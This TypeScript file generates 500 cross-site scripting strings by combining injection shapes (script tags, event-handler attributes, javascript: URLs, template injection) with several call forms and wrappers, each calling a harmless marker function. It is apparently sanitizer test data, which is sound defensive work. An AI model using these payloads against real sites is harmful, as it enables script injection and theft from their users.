// Ways to have a text taken for something else, each with each wrapping: 500 texts. All call the same function.
const calls = ["ran()", "window.ran()", "top['ran']()", "(ran)``", "ran&#40;&#41;"];
const shapes: ((call: string) => string)[] = [
  (c) => `<script>${c}</script>`,
  (c) => `<img src=x onerror=${c}>`,
  (c) => `<svg/onload=${c}>`,
  (c) => `"><svg onload="${c}">`,
  (c) => `'><img src=x onerror='${c}'>`,
  (c) => `</title><script>${c}</script>`,
  (c) => `</textarea><img src=x onerror=${c}>`,
  (c) => `<a href="javascript:${c}">x</a>`,
  (c) => `javascript:${c}`,
  (c) => `<iframe srcdoc="<script>parent.${c}</script>">`,
  (c) => `<details open ontoggle=${c}>`,
  (c) => `<input autofocus onfocus=${c}>`,
  (c) => `<video><source onerror=${c}></video>`,
  (c) => `{{constructor.constructor('${c}')()}}`,
  (c) => `\${${c}}`,
  (c) => `<math><mi xlink:href="javascript:${c}">x</mi></math>`,
  (c) => `<style>@import'javascript:${c}';</style>`,
  (c) => `<body onload=${c}>`,
  (c) => `<object data="javascript:${c}">`,
  (c) => `<x onclick=${c} style=animation-name:x>x</x>`,
];
const wraps: ((text: string) => string)[] = [
  (t) => t,
  (t) => `株式会社${t}`,
  (t) => `${t.toUpperCase().replaceAll("RAN", "ran")}!`,
  (t) => `"${t}`,
  (t) => `&lt;${t}&gt;`,
];
/** 500 texts; whichever is taken for a program calls `ran`. */
export const payloads = wraps.flatMap((wrap) => shapes.flatMap((shape) => calls.map((call) => wrap(shape(call)))));
